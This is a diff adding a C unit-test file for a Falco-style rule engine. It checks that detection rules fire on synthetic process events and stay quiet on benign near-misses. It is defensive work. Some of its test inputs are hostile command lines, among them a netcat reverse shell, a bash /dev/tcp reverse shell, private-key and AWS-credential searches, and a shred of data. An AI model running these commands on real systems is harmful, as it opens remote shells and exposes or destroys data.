@@ -1,0 +1,514 @@
+/*
+ * Rule evaluation on synthetic events: the Falco stable rules that can fire
+ * on process events, each with a benign near-miss; operator semantics
+ * (including Falco's "a field that cannot be extracted is false"); output
+ * formatting with <NA>; alert JSON in Falco's schema; rate limiting.
+ */
+#include <errno.h>
+#include <jansson.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdbool.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "container/container.h"
+#include "proc/proc.h"
+#include "rules/rules.h"
+
+#define FALCO_STABLE "../shared/data/falco-rules/falco_rules.yaml"
+#define BOOT_TO_REAL 1700000000000000000ll
+
+/* One synthetic event and the process chain it sees. */
+static struct {
+	struct ev_header hdr;
+	struct event ev;
+	struct proc_entry self, parent, gparent;
+	char self_exe[256], parent_exe[256], gparent_exe[256], cwd[256];
+	char args[512];
+	struct container_info ci;
+	char ci_name[64], ci_image[128];
+} F;
+
+static const struct proc_entry *test_ancestor(const struct event *ev, const struct proc_entry *p,
+					      unsigned n)
+{
+	(void)ev;
+	(void)p;
+	if (n == 1 && F.parent.pid)
+		return &F.parent;
+	if (n == 2 && F.gparent.pid)
+		return &F.gparent;
+	return NULL;
+}
+
+static void set_proc(struct proc_entry *p, uint32_t pid, uint32_t ppid, const char *comm,
+		     char *exe_buf, const char *exe)
+{
+	memset(p, 0, sizeof(*p));
+	p->pid = pid;
+	p->ppid = ppid;
+	p->vpid = pid;
+	p->start_ns = 1000;
+	snprintf(p->comm, sizeof(p->comm), "%s", comm);
+	snprintf(exe_buf, 256, "%s", exe);
+	p->exe = exe_buf;
+	p->cwd = F.cwd;
+	p->args = "";
+	p->loginuid = UINT32_MAX;
+}
+
+/*
+ * An exec of `argv` (space-separated here for brevity) by uid with tty,
+ * parent and grandparent names; in a container when image is non-NULL.
+ */
+static const struct event *exec_event(const char *exe, const char *argv, uint32_t uid, uint32_t tty,
+				      const char *parent, const char *gparent, const char *image,
+				      bool privileged)
+{
+	const char *slash = strrchr(exe, '/');
+	size_t n = 0;
+
+	memset(&F.hdr, 0, sizeof(F.hdr));
+	memset(&F.ev, 0, sizeof(F.ev));
+	snprintf(F.cwd, sizeof(F.cwd), "/root");
+	set_proc(&F.self, 300, parent ? 200 : 0, slash ? slash + 1 : exe, F.self_exe, exe);
+	memset(&F.parent, 0, sizeof(F.parent));
+	memset(&F.gparent, 0, sizeof(F.gparent));
+	if (parent)
+		set_proc(&F.parent, 200, gparent ? 100 : 1, parent, F.parent_exe, "/usr/bin/parent");
+	if (gparent)
+		set_proc(&F.gparent, 100, 1, gparent, F.gparent_exe, "/usr/bin/gparent");
+	/* argv: spaces become NULs */
+	for (const char *s = argv; *s && n + 1 < sizeof(F.args); s++)
+		F.args[n++] = *s == ' ' ? '\0' : *s;
+	F.args[n++] = '\0';
+	F.self.args = F.args;
+	F.self.args_len = (uint32_t)n;
+	F.self.uid = F.self.euid = uid;
+	F.self.tty = tty;
+	F.hdr.kind = EV_EXEC;
+	F.hdr.ts_ns = 5000000000ull;
+	F.hdr.pid = F.hdr.tid = F.self.pid;
+	F.hdr.ppid = F.self.ppid;
+	F.hdr.uid = uid;
+	F.hdr.tty = tty;
+	memcpy(F.hdr.comm, F.self.comm, sizeof(F.hdr.comm));
+	F.ev.hdr = &F.hdr;
+	F.ev.kind = EV_EXEC;
+	snprintf(F.ev.exe, sizeof(F.ev.exe), "%s", exe);
+	F.ev.args = F.args;
+	F.ev.args_len = (uint32_t)n;
+	F.ev.proc = &F.self;
+	if (image) {
+		memset(&F.ci, 0, sizeof(F.ci));
+		snprintf(F.ci.id, sizeof(F.ci.id), "%s",
+			 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
+		F.ci.runtime = RUNTIME_DOCKER;
+		F.ci.has_metadata = true;
+		snprintf(F.ci_name, sizeof(F.ci_name), "web-1");
+		snprintf(F.ci_image, sizeof(F.ci_image), "%s", image);
+		F.ci.name = F.ci_name;
+		F.ci.image = F.ci_image;
+		F.ci.privileged = privileged;
+		F.ev.container = &F.ci;
+		F.ev.container_key = 4242;
+	}
+	return &F.ev;
+}
+
+/* Alerts collected by the callback. */
+static struct {
+	char rules[32][128];
+	size_t n;
+	char *json;
+	char output[1024];
+} A;
+
+static int collect(const struct rules_alert *a, void *ctx)
+{
+	(void)ctx;
+	if (A.n < 32)
+		snprintf(A.rules[A.n], sizeof(A.rules[0]), "%s", a->rule->name);
+	if (A.n == 0) {
+		A.json = rules_alert_to_json(a);
+		snprintf(A.output, sizeof(A.output), "%s", a->output);
+	}
+	A.n++;
+	return 0;
+}
+
+static void reset_alerts(void)
+{
+	free(A.json);
+	memset(&A, 0, sizeof(A));
+}
+
+static bool fired(const char *rule)
+{
+	for (size_t i = 0; i < A.n && i < 32; i++)
+		if (!strcmp(A.rules[i], rule))
+			return true;
+	return false;
+}
+
+static struct rules_engine *engine_with(const char *path, const char *text,
+					const struct rules_config *over)
+{
+	struct rules_config cfg;
+	struct rules_engine *e = NULL;
+
+	if (over)
+		cfg = *over;
+	else
+		rules_config_default(&cfg);
+	cfg.hostname = "testhost";
+	cfg.boot_to_realtime_ns = BOOT_TO_REAL;
+	cfg.ancestor = test_ancestor;
+	cfg.diag_out = stderr;
+	assert_int_equal(rules_engine_new(&cfg, &e), 0);
+	if (path)
+		assert_int_equal(rules_engine_add_path(e, path), 0);
+	if (text)
+		assert_int_equal(rules_engine_add_buffer(e, "t.yaml", text, strlen(text)), 0);
+	assert_int_equal(rules_engine_compile(e), 0);
+	return e;
+}
+
+static int setup_falco(void **state)
+{
+	*state = engine_with(FALCO_STABLE, NULL, NULL);
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	rules_engine_free(*state);
+	reset_alerts();
+	return 0;
+}
+
+static void expect(struct rules_engine *e, const struct event *ev, const char *rule, bool want)
+{
+	reset_alerts();
+	rules_eval(e, ev, collect, NULL);
+	if (fired(rule) != want) {
+		fprintf(stderr, "rule '%s' %s; alerts:", rule, want ? "did not fire" : "fired");
+		for (size_t i = 0; i < A.n; i++)
+			fprintf(stderr, " [%s]", A.rules[i]);
+		fprintf(stderr, "\n");
+	}
+	assert_true(fired(rule) == want);
+}
+
+static void test_terminal_shell_in_container(void **state)
+{
+	const char *r = "Terminal shell in container";
+
+	expect(*state, exec_event("/bin/bash", "bash", 0, 34816, "runc:[1:CHILD]", NULL, "nginx:1.25", false), r, true);
+	/* near-miss: no terminal (a script run by the entry point) */
+	expect(*state, exec_event("/bin/bash", "bash", 0, 0, "runc:[1:CHILD]", NULL, "nginx:1.25", false), r, false);
+	/* near-miss: same shell on the host */
+	expect(*state, exec_event("/bin/bash", "bash", 0, 34816, "runc:[1:CHILD]", NULL, NULL, false), r, false);
+}
+
+static void test_run_shell_untrusted(void **state)
+{
+	const char *r = "Run shell untrusted";
+
+	expect(*state, exec_event("/bin/sh", "sh -c id", 33, 0, "nginx", "systemd", NULL, false), r, true);
+	/* near-miss: a shell started by sshd, not a protected spawner */
+	expect(*state, exec_event("/bin/sh", "sh -c id", 33, 0, "sshd", "systemd", NULL, false), r, false);
+}
+
+static void test_netcat_rce_in_container(void **state)
+{
+	const char *r = "Netcat Remote Code Execution in Container";
+
+	expect(*state, exec_event("/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", 0, 0, "sh", NULL, "alpine", false), r, true);
+	expect(*state, exec_event("/usr/bin/nc", "nc -l 8080", 0, 0, "sh", NULL, "alpine", false), r, false);
+}
+
+static void test_search_private_keys(void **state)
+{
+	const char *r = "Search Private Keys or Passwords";
+
+	expect(*state, exec_event("/bin/grep", "grep -r BEGIN RSA PRIVATE /home", 1000, 0, "bash", NULL, NULL, false), r, true);
+	expect(*state, exec_event("/bin/grep", "grep -r TODO /home", 1000, 0, "bash", NULL, NULL, false), r, false);
+	expect(*state, exec_event("/usr/bin/find", "find / -name id_rsa", 1000, 0, "bash", NULL, NULL, false), r, true);
+}
+
+static void test_remove_bulk_data(void **state)
+{
+	const char *r = "Remove Bulk Data from Disk";
+
+	expect(*state, exec_event("/usr/bin/shred", "shred -u /data/db", 0, 0, "bash", NULL, NULL, false), r, true);
+	expect(*state, exec_event("/bin/rm", "rm -rf /data/db", 0, 0, "bash", NULL, NULL, false), r, false);
+}
+
+static void test_debugfs_privileged(void **state)
+{
+	const char *r = "Debugfs Launched in Privileged Container";
+
+	expect(*state, exec_event("/sbin/debugfs", "debugfs /dev/sda1", 0, 0, "sh", NULL, "ubuntu", true), r, true);
+	expect(*state, exec_event("/sbin/debugfs", "debugfs /dev/sda1", 0, 0, "sh", NULL, "ubuntu", false), r, false);
+}
+
+static void test_find_aws_credentials(void **state)
+{
+	const char *r = "Find AWS Credentials";
+
+	expect(*state, exec_event("/usr/bin/find", "find / -path */.aws/credentials", 0, 0, "sh", NULL, NULL, false), r, true);
+	expect(*state, exec_event("/usr/bin/find", "find / -name notes.txt", 0, 0, "sh", NULL, NULL, false), r, false);
+	expect(*state, exec_event("/bin/grep", "grep -ri aws_secret_access_key /", 0, 0, "sh", NULL, NULL, false), r, true);
+}
+
+static void test_execution_from_dev_shm(void **state)
+{
+	const char *r = "Execution from /dev/shm";
+
+	expect(*state, exec_event("/dev/shm/x", "/dev/shm/x", 0, 0, "sh", NULL, "alpine", false), r, true);
+	expect(*state, exec_event("/usr/bin/x", "/usr/bin/x", 0, 0, "sh", NULL, "alpine", false), r, false);
+}
+
+static void test_system_user_interactive(void **state)
+{
+	const char *r = "System user interactive";
+
+	/* uid 1 is "daemon" in the host's /etc/passwd (Debian). */
+	expect(*state, exec_event("/bin/login", "login", 1, 0, "getty", NULL, NULL, false), r, true);
+	expect(*state, exec_event("/bin/login", "login", 0, 0, "getty", NULL, NULL, false), r, false);
+}
+
+static void test_alert_json_schema(void **state)
+{
+	json_t *j, *f;
+	json_error_t err;
+	const char *t;
+
+	expect(*state, exec_event("/bin/bash", "bash", 0, 34816, "runc:[1:CHILD]", NULL, "nginx:1.25", false),
+	       "Terminal shell in container", true);
+	assert_non_null(A.json);
+	j = json_loads(A.json, 0, &err);
+	assert_non_null(j);
+	assert_string_equal(json_string_value(json_object_get(j, "hostname")), "testhost");
+	assert_string_equal(json_string_value(json_object_get(j, "rule")), "Terminal shell in container");
+	assert_string_equal(json_string_value(json_object_get(j, "priority")), "Notice");
+	assert_string_equal(json_string_value(json_object_get(j, "source")), "syscall");
+	assert_true(json_is_array(json_object_get(j, "tags")));
+	assert_true(json_array_size(json_object_get(j, "tags")) > 0);
+	/* 1700000005 s after the epoch, RFC 3339 with nanoseconds */
+	t = json_string_value(json_object_get(j, "time"));
+	assert_string_equal(t, "2023-11-14T22:13:25.000000000Z");
+	assert_string_equal(json_string_value(json_object_get(j, "output")), A.output);
+	assert_non_null(strstr(A.output, "22:13:25.000000000: Notice A shell was spawned"));
+	f = json_object_get(j, "output_fields");
+	assert_true(json_is_object(f));
+	assert_true(json_is_integer(json_object_get(f, "user.uid")));
+	assert_true(json_is_integer(json_object_get(f, "proc.tty")));
+	assert_int_equal(json_integer_value(json_object_get(f, "proc.tty")), 34816);
+	assert_string_equal(json_string_value(json_object_get(f, "proc.name")), "bash");
+	assert_string_equal(json_string_value(json_object_get(f, "container.id")), "0123456789ab");
+	assert_string_equal(json_string_value(json_object_get(f, "container.name")), "web-1");
+	assert_string_equal(json_string_value(json_object_get(f, "container.image")), "nginx:1.25");
+	assert_int_equal(json_integer_value(json_object_get(f, "proc.pid")), 300);
+	assert_true(json_is_null(json_object_get(f, "evt.arg.flags")));
+	assert_non_null(strstr(A.output, "container_id=0123456789ab container_name=web-1 container_image=nginx:1.25 pid=300"));
+	json_decref(j);
+}
+
+#define R(cond, out) "- rule: r\n  desc: d\n  priority: INFO\n  output: '" out "'\n  condition: " cond "\n"
+
+static void test_output_na_and_indexes(void **state)
+{
+	struct rules_config cfg;
+	struct rules_engine *e;
+
+	(void)state;
+	rules_config_default(&cfg);
+	cfg.append_container = false;
+	e = engine_with(NULL, R("evt.type = execve", "%fd.name %proc.aname[5] %proc.aname[2] %proc.pname %container.image.repository %evt.type %%"), &cfg);
+	expect(e, exec_event("/bin/bash", "bash -i", 0, 0, "sshd", "systemd", "registry:5000/team/app:v2", false), "r", true);
+	assert_non_null(strstr(A.output, "Informational <NA> <NA> systemd sshd registry:5000/team/app execve %"));
+	rules_engine_free(e);
+}
+
+struct op_case {
+	const char *cond;
+	bool want;
+};
+
+static void test_operators(void **state)
+{
+	static const struct op_case cases[] = {
+		{ "proc.name = bash", true }, { "proc.name != bash", false },
+		{ "proc.pid > 299 and proc.pid < 301 and proc.pid >= 300 and proc.pid <= 300", true },
+		{ "proc.name in (sh, bash)", true }, { "proc.name in (sh, zsh)", false },
+		{ "proc.args intersects (-x, -i)", false }, { "proc.args intersects (\"-i /tmp\", x)", true },
+		{ "proc.exepath pmatch (/usr/local, /bin)", true }, { "proc.exepath pmatch (/bi)", false },
+		{ "proc.exepath pmatch (/b*)", true },
+		{ "proc.cmdline contains \"-i /tm\"", true }, { "proc.cmdline icontains \"BASH -I\"", true },
+		{ "proc.cmdline bcontains 2d69", true }, { "proc.name bstartswith 6261", true },
+		{ "proc.name startswith ba", true }, { "proc.name endswith sh", true },
+		{ "proc.exepath glob '/*/bash'", true }, { "proc.exepath iglob '/BIN/*'", true },
+		{ "proc.exepath glob '/usr/*'", false },
+		{ "proc.name regex 'ba(sh|zsh)'", true }, { "proc.name regex 'as'", false },
+		{ "proc.pname exists", true }, { "proc.aname[3] exists", false },
+		{ "toupper(proc.name) = BASH", true }, { "len(proc.name) = 4", true },
+		{ "basename(proc.exepath) = bash", true }, { "b64(proc.aname[2]) = hi", false },
+		{ "proc.aname = init", true }, { "proc.aname = sshd", true }, { "proc.aname = cron", false },
+		{ "proc.aname[1] = sshd", true },
+		{ "proc.name = val(proc.name)", true }, { "proc.name = val(proc.pname)", false },
+		/* Falco: an unextractable field makes the comparison false, both ways */
+		{ "fd.name = /etc/passwd", false }, { "fd.name != /etc/passwd", false },
+		{ "not fd.name = /etc/passwd", true }, { "container.id = host", true },
+		{ "container.image exists", false }, { "user.loginuid = -1", true },
+		{ "evt.arg.res = 0 and evt.arg[1] = bash and evt.res = SUCCESS", true },
+		{ "proc.name in (palisade_test_list)", true },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		char text[1024];
+		struct rules_engine *e;
+
+		snprintf(text, sizeof(text),
+			 "- list: palisade_test_list\n  items: [zsh, inner_list]\n"
+			 "- list: inner_list\n  items: [bash]\n" R("evt.type = execve and (%s)", "x"),
+			 cases[i].cond);
+		e = engine_with(NULL, text, NULL);
+		reset_alerts();
+		rules_eval(e, exec_event("/bin/bash", "bash -i /tmp", 0, 0, "sshd", "init", NULL, false),
+			   collect, NULL);
+		if ((A.n == 1) != cases[i].want)
+			fprintf(stderr, "case %zu '%s': got %zu alerts\n", i, cases[i].cond, A.n);
+		assert_int_equal(A.n == 1, cases[i].want);
+		rules_engine_free(e);
+	}
+}
+
+static void test_evttype_index_and_first_match(void **state)
+{
+	struct rules_config cfg;
+	struct rules_engine *e;
+	const struct event *ev;
+	const char *two = "- rule: a\n  desc: d\n  priority: INFO\n  output: a\n  condition: proc.name = bash\n"
+			  "- rule: b\n  desc: d\n  priority: INFO\n  output: b\n  condition: evt.type = execve and proc.name = bash\n"
+			  "- rule: c\n  desc: d\n  priority: INFO\n  output: c\n  condition: evt.type = procexit\n";
+
+	(void)state;
+	e = engine_with(NULL, two, NULL);
+	ev = exec_event("/bin/bash", "bash", 0, 0, NULL, NULL, NULL, false);
+	reset_alerts();
+	assert_int_equal(rules_eval(e, ev, collect, NULL), 2);
+	assert_true(fired("a") && fired("b") && !fired("c"));
+	F.ev.kind = EV_EXIT;
+	F.hdr.kind = EV_EXIT;
+	reset_alerts();
+	assert_int_equal(rules_eval(e, &F.ev, collect, NULL), 2); /* a (all types) and c */
+	assert_true(fired("a") && fired("c"));
+	rules_engine_free(e);
+
+	rules_config_default(&cfg);
+	cfg.first_match_only = true;
+	e = engine_with(NULL, two, &cfg);
+	reset_alerts();
+	assert_int_equal(rules_eval(e, exec_event("/bin/bash", "bash", 0, 0, NULL, NULL, NULL, false), collect, NULL), 1);
+	assert_true(fired("a"));
+	rules_engine_free(e);
+}
+
+static void test_rate_limit_and_dedup(void **state)
+{
+	struct rules_config cfg;
+	struct rules_engine *e;
+	struct rules_stats st;
+	const char *text = R("evt.type = execve", "%proc.cmdline");
+
+	(void)state;
+	rules_config_default(&cfg);
+	cfg.rate_per_sec = 1;
+	cfg.rate_burst = 2;
+	e = engine_with(NULL, text, &cfg);
+	for (int i = 0; i < 5; i++) {
+		exec_event("/bin/bash", i % 2 ? "bash -a" : "bash -b", 0, 0, NULL, NULL, "img", false);
+		rules_eval(e, &F.ev, NULL, NULL);
+	}
+	rules_engine_stats(e, &st);
+	assert_int_equal(st.alerts, 2);
+	assert_int_equal(st.rate_limited, 3);
+	/* another container has its own bucket */
+	exec_event("/bin/bash", "bash", 0, 0, NULL, NULL, "img", false);
+	F.ev.container_key = 7;
+	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 1);
+	rules_engine_free(e);
+
+	rules_config_default(&cfg);
+	cfg.dedup_window_ns = 1000000000ull;
+	e = engine_with(NULL, text, &cfg);
+	exec_event("/bin/bash", "bash -a", 0, 0, NULL, NULL, "img", false);
+	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 1);
+	F.hdr.ts_ns += 1000; /* identical output, same container, within the window */
+	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 0);
+	exec_event("/bin/bash", "bash -b", 0, 0, NULL, NULL, "img", false);
+	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 1);
+	F.hdr.ts_ns += 2000000000ull; /* window over */
+	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 1);
+	rules_engine_stats(e, &st);
+	assert_int_equal(st.deduplicated, 1);
+	rules_engine_free(e);
+}
+
+static void test_default_rules_fire(void **state)
+{
+	struct rules_config cfg;
+	struct rules_engine *e = NULL;
+
+	(void)state;
+	rules_config_default(&cfg);
+	cfg.ancestor = test_ancestor;
+	assert_int_equal(rules_engine_new(&cfg, &e), 0);
+	assert_int_equal(rules_engine_add_default(e), 0);
+	assert_int_equal(rules_engine_compile(e), 0);
+	assert_int_equal(rules_engine_cannot_fire_count(e), 1);
+	expect(e, exec_event("/usr/bin/apt-get", "apt-get install -y curl", 0, 0, "sh", NULL, "debian", false),
+	       "Package manager run in container", true);
+	expect(e, exec_event("/usr/bin/apt-get", "apt-get install -y curl", 0, 0, "sh", NULL, NULL, false),
+	       "Package manager run in container", false);
+	expect(e, exec_event("/tmp/.x/kworker", "kworker", 0, 0, "sh", NULL, NULL, false),
+	       "Program run from a writable temporary directory", true);
+	expect(e, exec_event("/tmpfoo/kworker", "kworker", 0, 0, "sh", NULL, NULL, false),
+	       "Program run from a writable temporary directory", false);
+	expect(e, exec_event("/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 0, 0, "sh", NULL, NULL, false),
+	       "Reverse shell command line", true);
+	rules_engine_free(e);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test_setup_teardown(test_terminal_shell_in_container, setup_falco, teardown),
+		cmocka_unit_test_setup_teardown(test_run_shell_untrusted, setup_falco, teardown),
+		cmocka_unit_test_setup_teardown(test_netcat_rce_in_container, setup_falco, teardown),
+		cmocka_unit_test_setup_teardown(test_search_private_keys, setup_falco, teardown),
+		cmocka_unit_test_setup_teardown(test_remove_bulk_data, setup_falco, teardown),
+		cmocka_unit_test_setup_teardown(test_debugfs_privileged, setup_falco, teardown),
+		cmocka_unit_test_setup_teardown(test_find_aws_credentials, setup_falco, teardown),
+		cmocka_unit_test_setup_teardown(test_execution_from_dev_shm, setup_falco, teardown),
+		cmocka_unit_test_setup_teardown(test_system_user_interactive, setup_falco, teardown),
+		cmocka_unit_test_setup_teardown(test_alert_json_schema, setup_falco, teardown),
+		cmocka_unit_test(test_output_na_and_indexes),
+		cmocka_unit_test(test_operators),
+		cmocka_unit_test(test_evttype_index_and_first_match),
+		cmocka_unit_test(test_rate_limit_and_dedup),
+		cmocka_unit_test(test_default_rules_fire),
+	};
+	int ret = cmocka_run_group_tests_name("rules_eval", tests, NULL, NULL);
+
+	reset_alerts();
+	return ret;
+}
